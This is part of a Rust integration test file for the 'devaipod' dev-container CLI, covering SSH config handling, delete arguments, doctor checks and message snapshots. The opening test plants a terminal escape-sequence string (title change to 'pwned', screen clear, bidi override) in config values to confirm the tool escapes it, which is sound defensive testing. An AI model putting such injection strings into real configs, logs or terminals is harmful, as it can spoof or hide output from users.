    let evil = "\u{1b}]0;pwned\u{7}\u{1b}[2J\u{202e}\u{9b}2J";
    let shown = r"\x1b]0;pwned\x07\x1b[2J\u{202e}\u{9b}2J";
    let config = serde_json::json!({
        "image": "localhost/x:1",
        "containerEnv": { format!("A{evil}"): "v" },
        "remoteUser": format!("dev{evil}"),
    });
    let r = repo(Some(&config.to_string()));
    // The human plan and `config` show the repo's values escaped.
    for args in [&["up", ".", "--dry-run"][..], &["config"][..]] {
        let o = devaipod(args, r.path());
        assert!(o.status.success(), "{args:?}: {}", stderr(&o));
        let out = String::from_utf8_lossy(&o.stdout);
        assert_eq!(raw_controls(&out), Vec::<char>::new(), "{args:?}: {out}");
        assert!(out.contains(shown), "{args:?}: {out}");
    }
    // `--json` keeps them exactly (JSON escapes them itself).
    let o = devaipod(&["up", ".", "--dry-run", "--json"], r.path());
    assert!(!o.stdout.contains(&0x1b), "JSON escapes ESC");
    let v: Value = serde_json::from_slice(&o.stdout).expect("JSON");
    let ws = plan_container(&v, "workspace");
    let names: Vec<&str> = ws["env_names"]
        .as_array()
        .expect("env_names")
        .iter()
        .filter_map(Value::as_str)
        .collect();
    assert!(names.contains(&format!("A{evil}").as_str()), "{names:?}");
    // An error quoting the repo's text (main prints every error escaped).
    let config =
        serde_json::json!({"image": "localhost/x:1", "runArgs": [format!("--cap-add=X{evil}")]});
    let r = repo(Some(&config.to_string()));
    let o = devaipod(&["up", ".", "--dry-run"], r.path());
    assert_fails_with(&o, &format!("--cap-add X{shown}"));
    assert_eq!(
        raw_controls(&stderr(&o)),
        Vec::<char>::new(),
        "{}",
        stderr(&o)
    );
}

#[test]
fn logs_offers_raw_output() {
    let d = tempfile::tempdir().expect("tempdir");
    let o = devaipod(&["logs", "--help"], d.path());
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(out.contains("--raw"), "{out}");
    assert!(out.contains("unchanged"), "{out}");
}

/// devaipod with HOME and XDG_DATA_HOME in `home` (and no engine).
fn devaipod_at_home(args: &[&str], home: &Path) -> Output {
    devaipod_cmd()
        .args(args)
        .current_dir(home)
        .env("HOME", home)
        .env("XDG_DATA_HOME", home.join("data"))
        .env("CONTAINER_HOST", "unix:///nonexistent/devaipod-test.sock")
        .output()
        .expect("devaipod runs")
}

/// Every path under `dir`, relative, sorted.
fn tree(dir: &Path) -> Vec<String> {
    fn walk(root: &Path, dir: &Path, out: &mut Vec<String>) {
        for e in std::fs::read_dir(dir).expect("list") {
            let p = e.expect("entry").path();
            out.push(p.strip_prefix(root).expect("under").display().to_string());
            if p.is_dir() {
                walk(root, &p, out);
            }
        }
    }
    let mut out = Vec::new();
    walk(dir, dir, &mut out);
    out.sort();
    out
}

#[test]
fn ssh_config_refuses_bad_names_and_a_missing_engine_before_writing_anything() {
    let home = tempfile::tempdir().expect("tempdir");
    for bad in ["Bad", "devaipod-", "a/../b", "x\ny", "é"] {
        for extra in [&[][..], &["--stdout"], &["--remove"]] {
            let mut args = vec!["ssh-config", bad];
            args.extend_from_slice(extra);
            let o = devaipod_at_home(&args, home.path());
            assert_fails_with(&o, "name");
        }
    }
    // A valid name, but no engine to confirm the workspace: nothing is written either.
    for args in [
        &["ssh-config", "demo"][..],
        &["ssh-config", "demo", "--stdout"],
        &["ssh-config", "--all"],
    ] {
        let o = devaipod_at_home(args, home.path());
        assert_eq!(o.status.code(), Some(1), "{args:?}: {}", stderr(&o));
        assert!(o.stdout.is_empty(), "{args:?}");
    }
    assert_eq!(tree(home.path()), Vec::<String>::new());
}

#[test]
fn ssh_config_usage_conflicts_exit_2() {
    let home = tempfile::tempdir().expect("tempdir");
    for args in [
        &["ssh-config"][..],
        &["ssh-config", "demo", "--all"],
        &["ssh-config", "--all", "--remove"],
        &["ssh-config", "demo", "--remove", "--stdout"],
        &["ssh-config", "--remove"],
    ] {
        let o = devaipod_at_home(args, home.path());
        assert_eq!(o.status.code(), Some(2), "{args:?}: {}", stderr(&o));
    }
    assert_eq!(tree(home.path()), Vec::<String>::new());
}

#[test]
fn ssh_config_is_listed_and_ssh_server_hidden() {
    let d = tempfile::tempdir().expect("tempdir");
    let out = String::from_utf8_lossy(&devaipod(&["--help"], d.path()).stdout).into_owned();
    assert!(out.contains("ssh-config"), "{out}");
    assert!(!out.contains("ssh-server"), "{out}");
    let o = devaipod(&["ssh-config", "--help"], d.path());
    let help = String::from_utf8_lossy(&o.stdout);
    for flag in ["--all", "--stdout", "--remove"] {
        assert!(help.contains(flag), "{help}");
    }
    let o = devaipod(&["completions", "bash"], d.path());
    let bash = String::from_utf8_lossy(&o.stdout);
    assert!(
        bash.contains("ssh-config") && bash.contains("--remove"),
        "bash completions"
    );
}

#[test]
fn ssh_config_remove_takes_our_entry_and_key_and_leaves_the_users_files() {
    let home = tempfile::tempdir().expect("tempdir");
    let config_d = home.path().join(".ssh/config.d");
    std::fs::create_dir_all(&config_d).expect("mkdir");
    let ours = config_d.join("devaipod-demo");
    std::fs::write(
        &ours,
        "# Written by devaipod ssh-config for workspace demo; `devaipod delete demo` removes it.\nHost devaipod-demo\n",
    )
    .expect("w");
    let keys = home.path().join("data/devaipod/ssh/demo");
    std::fs::create_dir_all(&keys).expect("mkdir");
    std::fs::write(keys.join("known_hosts"), "devaipod-demo ssh-ed25519 AAAA\n").expect("w");
    let theirs = config_d.join("devaipod-other");
    std::fs::write(&theirs, "Host devaipod-other\n    User me\n").expect("w");
    std::fs::write(config_d.join("github"), "Host github.com\n").expect("w");

    let o = devaipod_at_home(&["ssh-config", "devaipod-demo", "--remove"], home.path());
    assert!(o.status.success(), "{}", stderr(&o));
    let out = String::from_utf8_lossy(&o.stdout);
    assert_eq!(
        out.lines().collect::<Vec<_>>(),
        [
            format!("removed {}", ours.display()),
            format!("removed {}", keys.display())
        ]
    );
    assert!(!ours.exists() && !keys.exists());

    let o = devaipod_at_home(&["ssh-config", "other", "--remove"], home.path());
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(
        stderr(&o).contains("devaipod did not write it"),
        "{}",
        stderr(&o)
    );
    assert_eq!(
        std::fs::read_to_string(&theirs).expect("kept"),
        "Host devaipod-other\n    User me\n"
    );
    assert!(config_d.join("github").exists());

    let o = devaipod_at_home(&["ssh-config", "demo", "--remove"], home.path());
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(o.stdout.is_empty());
    assert!(
        stderr(&o).contains("no SSH entry or host key of demo"),
        "{}",
        stderr(&o)
    );
}

#[test]
fn delete_needs_names_or_all_but_not_both() {
    let d = tempfile::tempdir().expect("tempdir");
    let none = devaipod(&["delete"], d.path());
    assert_eq!(none.status.code(), Some(2));
    assert!(stderr(&none).contains("<NAMES>..."), "{}", stderr(&none));
    let both = devaipod(&["delete", "--all", "x"], d.path());
    assert_eq!(both.status.code(), Some(2));
    assert!(
        stderr(&both).contains("cannot be used with"),
        "{}",
        stderr(&both)
    );
}

#[test]
fn legacy_extensions_and_settings_are_said_to_be_legacy_not_unknown() {
    let r = repo(Some(
        r#"{"image": "localhost/x:1", "extensions": ["a.b"], "settings": {"k": 1}}"#,
    ));
    let o = devaipod(&["config", ".", "--json"], r.path());
    assert!(o.status.success(), "{}", stderr(&o));
    let v: Value = serde_json::from_slice(&o.stdout).expect("json");
    let warnings = v["warnings"].to_string();
    for key in ["extensions", "settings"] {
        assert!(
            warnings.contains(&format!("property \\\"{key}\\\" is legacy")),
            "{warnings}"
        );
    }
    assert!(!warnings.contains("unknown property"), "{warnings}");
    let text = v["configuration"]["customizations"]["vscode"].to_string();
    assert!(
        text.contains("a.b") && text.contains("\"k\""),
        "moved like the reference: {text}"
    );
}

#[test]
fn version_names_the_commit_it_was_built_from() {
    let d = tempfile::tempdir().expect("tempdir");
    let o = devaipod(&["--version"], d.path());
    assert!(o.status.success(), "{}", stderr(&o));
    let out = String::from_utf8_lossy(&o.stdout).into_owned();
    let head = std::process::Command::new("git")
        .args(["rev-parse", "--short=12", "HEAD"])
        .current_dir(env!("CARGO_MANIFEST_DIR"))
        .output()
        .expect("git");
    let head = String::from_utf8_lossy(&head.stdout).trim().to_string();
    assert_eq!(
        out.trim(),
        format!("devaipod {} (commit {head})", env!("CARGO_PKG_VERSION")),
        "{out}"
    );
}

/// What `devaipod` says (stderr, and the lines of a text plan), with the repo's temporary
/// path shown as `[REPO]` so that a snapshot holds the words and nothing of the machine.
fn said(o: &Output, repo: &Path, keep: impl Fn(&str) -> bool) -> String {
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    );
    let repo = repo.display().to_string();
    let mut out = format!("exit {}\n", o.status.code().unwrap_or(-1));
    for line in text.lines().filter(|l| keep(l)) {
        out.push_str(&line.replace(&repo, "[REPO]"));
        out.push('\n');
    }
    out
}

/// The words of the messages a newcomer meets first, as snapshots: a change to any of
/// them shows up in review (`cargo insta review`), not by accident.
#[test]
fn messages_read_as_written() {
    let everything = |_: &str| true;
    type Keep<'a> = &'a dyn Fn(&str) -> bool;
    let cases: [(&str, Option<&str>, &[&str], Keep); 8] = [
        (
            "no_devcontainer_json",
            None,
            &["up", ".", "--name", "w", "--dry-run"],
            &|l: &str| l.starts_with("image ") || l.starts_with("error"),
        ),
        (
            "wrong_type_names_the_key",
            Some("{\n  \"image\": \"x\",\n  \"remoteEnv\": {\"HOME\": null, \"PATH\": 5}\n}\n"),
            &["up", ".", "--name", "w", "--dry-run"],
            &everything,
        ),
        (
            "syntax_error_has_line_and_column",
            Some("{\n  \"image\": \"x\"\n  \"name\": \"b\"\n}\n"),
            &["config", "."],
            &everything,
        ),
        (
            "legacy_and_unknown_properties",
            Some(
                "{\n  \"image\": \"x\",\n  \"extensions\": [\"a.b\"],\n  \"settings\": {},\n  \"imagee\": 1,\n  \"secrets\": {}\n}\n",
            ),
            &["up", ".", "--name", "w", "--dry-run"],
            &|l: &str| l.starts_with("warning") && !l.contains("disk limit"),
        ),
        (
            "bad_image_flag",
            Some("{\"image\": \"x\"}"),
            &[
                "up",
                ".",
                "--name",
                "w",
                "--dry-run",
                "--image",
                "BAD IMAGE",
            ],
            &everything,
        ),
        (
            "bad_workspace_name",
            Some("{\"image\": \"x\"}"),
            &["up", ".", "--name", "My Project!", "--dry-run"],
            &everything,
        ),
        (
            "refused_mount_has_line_and_column",
            Some(
                "{\n  \"image\": \"x\",\n  \"mounts\": [\n    \"type=volume,source=a,target=/a\",\n    \"type=volume,source=b,target=/b,colour=red\"\n  ]\n}\n",
            ),
            &["up", ".", "--name", "w", "--dry-run"],
            &everything,
        ),
        (
            "refused_host_requirement_has_line_and_column",
            Some(
                "{\n  \"image\": \"x\",\n  \"hostRequirements\": {\"cpus\": 2, \"memory\": \"lots\"}\n}\n",
            ),
            &["up", ".", "--name", "w", "--dry-run"],
            &everything,
        ),
    ];
    for (name, config, args, keep) in cases {
        let r = repo(config);
        let o = devaipod(args, r.path());
        insta::assert_snapshot!(name, said(&o, r.path(), keep));
    }
}

#[test]
fn doctor_without_an_engine_names_it_and_exits_1() {
    let d = tempfile::tempdir().expect("tempdir");
    let o = devaipod(&["doctor", "--json"], d.path());
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    let v: Value = serde_json::from_slice(&o.stdout).expect("JSON");
    assert_eq!(v["ok"], false, "{v}");
    let check = |name: &str| {
        v["checks"]
            .as_array()
            .expect("checks")
            .iter()
            .find(|c| c["name"] == name)
            .cloned()
            .unwrap_or_else(|| panic!("no {name}: {v}"))
    };
    let engine = check("engine");
    assert_eq!(engine["status"], "fail", "{v}");
    assert!(
        engine["detail"]
            .as_str()
            .unwrap_or("")
            .contains("/nonexistent/devaipod-test.sock"),
        "{v}"
    );
    assert!(engine["fix"].as_str().is_some_and(|f| !f.is_empty()), "{v}");
    for later in ["cgroups", "bundled-image", "opencode"] {
        assert_eq!(check(later)["status"], "skip", "{later}: {v}");
    }
    // CONTAINER_HOST names the engine: no local podman is needed.
    assert_eq!(check("podman")["status"], "skip", "{v}");
    let text = devaipod(&["doctor"], d.path());
    let out = String::from_utf8_lossy(&text.stdout);
    assert!(out.contains("FAIL  engine"), "{out}");
    assert!(out.contains("`up` cannot run here yet"), "{out}");
    // The provider keys it sees, by name only; without any, a warning with the fix.
    assert_eq!(check("providers")["status"], "warn", "{v}");
    let sentinel = "sk-dvpt-doctor-sentinel";
    let o = devaipod_cmd()
        .args(["doctor", "--json"])
        .current_dir(d.path())
        .env("CONTAINER_HOST", "unix:///nonexistent/devaipod-test.sock")
        .env("DEVAIPOD_CONFIG", d.path().join("none.toml"))
        .env("XAI_API_KEY", sentinel)
        .output()
        .expect("devaipod runs");
    let text = String::from_utf8_lossy(&o.stdout);
    assert!(!text.contains(sentinel), "{text}");
    let v: Value = serde_json::from_slice(&o.stdout).expect("JSON");
    let providers = v["checks"]
        .as_array()
        .and_then(|c| c.iter().find(|c| c["name"] == "providers"))
        .cloned()
        .unwrap_or_default();
    assert_eq!(providers["status"], "ok", "{v}");
    assert_eq!(providers["detail"], "set: XAI_API_KEY (xai)", "{v}");
}
